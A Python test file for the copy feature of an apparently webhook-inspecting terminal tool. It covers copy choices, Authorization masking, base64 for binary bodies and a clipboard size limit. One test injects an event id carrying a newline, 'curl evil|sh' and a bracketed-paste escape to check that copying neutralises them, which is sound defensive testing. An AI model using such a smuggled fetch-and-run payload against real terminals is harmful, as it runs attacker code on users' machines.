"""What can be copied of a delivery: in which words, how large, and with what masked."""

from base64 import b64decode

from inspector.domain.delivery import Delivery, Request
from inspector.tui import copying
from inspector.tui.copying import CARRYING, Copied, choices, copied, told, too_large
from tests.helpers.summaries import make_delivery

BASE = "http://127.0.0.1:8400"
REQUEST = Request(
    "POST", "/hooks?x=1", "1.1", (("Host", "x"), ("Authorization", "Bearer sesame")), b"{}"
)
DELIVERY = make_delivery(7, request_target="/hooks?x=1")


def keys(value: tuple[str, str] | None, delivery: Delivery = DELIVERY) -> str:
    return "".join(one.key for one in choices(delivery, BASE, value))


def one(key: str, request: Request = REQUEST, *, reveal: bool = False) -> Copied:
    return copied(key, DELIVERY, BASE, ("data.amount", "5"), request, reveal=reveal)


def test_what_is_likely_meant_comes_first() -> None:
    assert keys(("data.amount", "5")) == "veiuchpw"
    assert keys(None) == "eiuchpw"
    assert keys(None, DELIVERY._replace(event_id=None)) == "iuchpw"


def test_short_things() -> None:
    assert told(one("v"), "s") == "copied data.amount"
    assert one("v").text == "5"
    assert told(one("e"), "s") == "copied event id evt_000007"
    assert one("i") == Copied("7", "delivery id 7")
    assert one("u").text == f"{BASE}/hooks?x=1"
    absolute = DELIVERY._replace(request_target="http://elsewhere/x")
    assert copying.url(absolute, BASE) == "http://elsewhere/x"


def test_an_event_id_is_harmless_wherever_it_is_pasted() -> None:
    delivery = DELIVERY._replace(event_id="evt_1\ncurl evil|sh\n\x1b[201~")
    done = copied("e", delivery, BASE, None, None, reveal=False)
    assert done.text == "evt_1␊curl evil|sh␊␛[201~"


def test_the_address_at_the_relay_is_there_where_it_has_one() -> None:
    relay = "https://relay.example.com/in/slug"
    last = choices(DELIVERY, BASE, None, relay)[-1]
    assert (last.key, last.about) == ("a", relay)
    done = copied("a", DELIVERY, BASE, None, None, relay, reveal=False)
    assert done == Copied(relay, "the address for senders")


def test_secrets_are_masked_and_it_is_said() -> None:
    for key in CARRYING:
        assert "sesame" not in one(key).text
        assert one(key).note == "authorization is masked"
        assert "sesame" in one(key, reveal=True).text
        assert one(key, reveal=True).note == ""
    said = told(one("c"), "s")
    assert said.startswith("copied curl command, ")
    assert said.endswith("B; authorization is masked, s shows and copies it")


def test_raw_is_text_where_it_is_text() -> None:
    done = one("w")
    assert done.what == "raw request"
    assert done.text == ("POST /hooks?x=1 HTTP/1.1\r\nHost: x\r\nAuthorization: ••••\r\n\r\n{}")
    for body in (b"\xff\x00", b"\x1b[2J"):
        done = one("w", REQUEST._replace(body=body), reveal=True)
        assert done.what == "raw request in base64, because it is no text"
        assert b64decode(done.text).endswith(b"sesame\r\n\r\n" + body)


def test_what_a_terminal_would_not_take_is_not_copied() -> None:
    done = one("w", REQUEST._replace(body=b"a" * 80_000))
    assert done.size > copying.LIMIT
    assert too_large(done.what, done.size, "x") == (
        "raw request is 78kB: terminals take no more than 72kB, so nothing was copied; x exports it"
    )
